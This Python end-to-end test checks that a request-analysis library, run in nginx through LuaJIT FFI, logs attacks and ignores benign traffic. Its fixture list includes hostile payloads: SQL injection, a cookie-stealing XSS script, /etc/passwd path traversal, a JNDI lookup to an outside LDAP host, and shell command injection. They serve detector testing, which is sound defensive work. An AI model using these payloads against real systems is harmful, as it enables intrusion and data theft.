"""End-to-end: nginx + lua-nginx-module + libmirrorguard through LuaJIT FFI.

Starts nginx with examples/nginx-lua/nginx.conf on 127.0.0.1:18480 (its own
prefix in a temporary directory), sends benign and attack requests over one
keep-alive connection, and checks logs/attacks.jsonl: one line per attack
with the expected class and location, none for benign requests. Also checks
that a bad configuration stops nginx with the field named.

Usage: python3 test_e2e.py LIBMIRRORGUARD_SO
Run by scripts/test-ffi.sh.
"""

import http.client
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
CONF = os.path.join(HERE, "nginx.conf")
PORT = 18480
# (Not $NGINX: nginx reads that variable for inherited sockets.)
NGINX = os.environ.get("MIRRORGUARD_NGINX", "nginx")

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FORM = "application/x-www-form-urlencoded"

# (method, uri, extra headers, body)
BENIGN = [
    ("GET", "/catalog/search?q=running+shoes&size=42&page=2", {}, None),
    ("GET", "/feedback?msg=Select+your+union+rep%2C+or+drop+us+a+line", {}, None),
    ("POST", "/api/orders", {"Content-Type": "application/json"},
     b'{"customer":{"name":"Jane O\'Neil"},"items":[{"sku":"A-1","qty":2}]}'),
    ("POST", "/comments", {"Content-Type": FORM}, b"body=I+%3C3+this%2C+%3Cb%3Ebold%3C%2Fb%3E&post=12"),
    ("GET", "/static/app.js?v=3", {"Referer": "https://shop.example.com/"}, None),
]

# (method, uri, extra headers, body, class, part, name)
ATTACKS = [
    ("GET", "/search?q=1%27%20OR%201%3D1--", {}, None, "sqli", "query", "q"),
    ("GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}, None, "xss", "query", "q"),
    ("POST", "/api/login", {"Content-Type": "application/json"},
     b'{"user":"admin\' OR 1=1--","pass":"x"}', "sqli", "json", "/user"),
    ("GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, None, "path-traversal", "query", "file"),
    ("GET", "/account", {"X-Api-Version": "${jndi:ldap://203.0.113.7:1389/a}"}, None,
     "jndi", "header", "x-api-version"),
    ("POST", "/tools/ping", {"Content-Type": FORM}, b"host=127.0.0.1%3Bcat+/etc/passwd",
     "rce", "form", "host"),
]


def wait_port(proc, timeout=15.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            return False
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=0.5).close()
            return True
        except OSError:
            time.sleep(0.1)
    return False


PREFIXES = []


def make_prefix():
    prefix = tempfile.mkdtemp(prefix="mirrorguard-nginx-")
    PREFIXES.append(prefix)
    os.chmod(prefix, 0o755)  # nginx workers may run as another user
    for d in ("logs", "tmp", "lua"):
        os.mkdir(os.path.join(prefix, d))
        os.chmod(os.path.join(prefix, d), 0o755)
    os.symlink(os.path.join(HERE, "mirrorguard.lua"), os.path.join(prefix, "lua", "mirrorguard.lua"))
    return prefix + "/"


def read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            return f.read()
    except FileNotFoundError:
        return ""


def check_bad_config(lib, failures):
    """A bad mirrorguard configuration stops nginx, naming the field."""
    prefix = make_prefix()
    bad = os.path.join(prefix, "bad.toml")
    with open(bad, "w") as f:
        f.write("[limits]\nmax_decode_depth = 99\n")
    env = dict(os.environ, MIRRORGUARD_LIB=lib, MIRRORGUARD_CONFIG=bad)
    env.pop("NGINX", None)
    # (`nginx -t` does not run init_by_lua: start it for real.)
    proc = subprocess.Popen([NGINX, "-p", prefix, "-c", CONF, "-g", "daemon off;"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        out, _ = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        proc.send_signal(signal.SIGQUIT)
        out, _ = proc.communicate()
    out += read(prefix + "logs/error.log")
    if proc.returncode == 0 or "limits.max_decode_depth" not in out:
        failures.append(f"bad config: nginx exited {proc.returncode}, output:\n{out}")
    else:
        print("bad configuration refused:",
              next(l for l in out.splitlines() if "max_decode_depth" in l).strip())


def main():
    lib = os.path.abspath(sys.argv[1])
    failures = []
    passed = 0

    prefix = make_prefix()
    env = dict(os.environ, MIRRORGUARD_LIB=lib)
    env.pop("MIRRORGUARD_CONFIG", None)
    env.pop("NGINX", None)
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=0.5).close()
        sys.exit(f"port {PORT} is already in use")
    except OSError:
        pass
    proc = subprocess.Popen([NGINX, "-p", prefix, "-c", CONF, "-g", "daemon off;"], env=env)
    try:
        if not wait_port(proc):
            print(read(prefix + "logs/error.log"), file=sys.stderr)
            sys.exit("nginx did not start")
        conn = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)

        def send(method, uri, headers, body):
            h = {"Host": "shop.example.com", "User-Agent": UA, **headers}
            start = time.monotonic()
            conn.request(method, uri, body=body, headers=h)
            resp = conn.getresponse()
            data = resp.read()
            return resp.status, data, time.monotonic() - start

        for method, uri, headers, body in BENIGN:
            status, data, _ = send(method, uri, headers, body)
            assert status == 200 and data == b"ok\n", (uri, status, data)
        slowest = 0.0
        for method, uri, headers, body, *_ in ATTACKS:
            status, data, took = send(method, uri, headers, body)
            # Nothing is blocked: the application answers every request.
            assert status == 200 and data == b"ok\n", (uri, status, data)
            slowest = max(slowest, took)
        # One keep-alive connection: nginx runs a request's log phase
        # before it reads the next request, so once the last line is
        # there, every earlier request has been analyzed.
        conn.close()

        log = prefix + "logs/attacks.jsonl"
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and len(read(log).splitlines()) < len(ATTACKS):
            time.sleep(0.1)
        time.sleep(0.3)
        lines = [json.loads(l) for l in read(log).splitlines()]
        by_uri = {l["uri"]: l for l in lines}

        for method, uri, headers, body, cls, part, name in ATTACKS:
            line = by_uri.get(uri)
            if line is None:
                failures.append(f"no attack line for {method} {uri}")
                continue
            v = line["verdict"]
            ok = (
                line["method"] == method
                and line["client"] == "127.0.0.1"
                and re.fullmatch(r"[0-9a-f]{32}", line["request_id"] or "")
                and line["status"] == 200
                and v["attack"] is True
                and any(f["class"] == cls and f["location"]["part"] == part
                        and f["location"]["name"] == name for f in v["findings"])
            )
            if ok:
                passed += 1
                print(f"attack logged: {method} {uri} -> {cls} in {part} `{name}`")
            else:
                failures.append(f"{method} {uri}: expected {cls} in {part} `{name}`, got {json.dumps(line)}")
        for method, uri, *_ in BENIGN:
            if uri in by_uri:
                failures.append(f"benign request logged as an attack: {json.dumps(by_uri[uri])}")
            else:
                passed += 1
        if len(lines) != len(ATTACKS):
            failures.append(f"{len(lines)} lines in attacks.jsonl for {len(ATTACKS)} attacks")
        errors = [l for l in read(prefix + "logs/error.log").splitlines()
                  if "[error]" in l or "[alert]" in l or "[crit]" in l or "[emerg]" in l or "lua" in l and "[warn]" in l]
        if errors:
            failures.append("nginx error log:\n" + "\n".join(errors))
        print(f"slowest response while analyzing: {slowest * 1000:.1f} ms")
    finally:
        proc.send_signal(signal.SIGQUIT)
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()

    check_bad_config(lib, failures)
    if not failures:
        passed += 1

    for f in failures:
        print("FAIL:", f, file=sys.stderr)
    if not failures:
        for p in PREFIXES:
            shutil.rmtree(p, ignore_errors=True)
    print(f"nginx-lua: {passed} passed, {len(failures)} failed")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
